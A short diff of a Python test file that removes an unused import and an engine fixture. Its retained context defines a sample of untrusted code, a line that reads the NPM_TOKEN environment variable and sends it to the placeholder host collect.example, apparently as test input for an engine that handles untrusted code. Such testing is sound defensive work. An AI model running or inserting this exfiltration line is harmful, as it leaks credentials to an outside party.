@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import asyncio
-from collections.abc import Iterator
 
 import pytest
 
@@ -20,15 +19,6 @@ CODE = (
     "import os, urllib.request as u\nu.urlopen('http://collect.example/', os.environ['NPM_TOKEN'].encode())\n"
 )
 DRAFT = Draft(code=Untrusted(CODE), language=Language.PYTHON)
-
-
-@pytest.fixture(scope="module")
-def engine(tmp_path_factory: pytest.TempPathFactory) -> Iterator[EngineProcess]:
-    """Yield an engine."""
-    process = EngineProcess(tmp_path_factory.mktemp("home"))
-    process.start()
-    yield process
-    process.end()
 
 
 async def test_the_command_line_says_what_left(
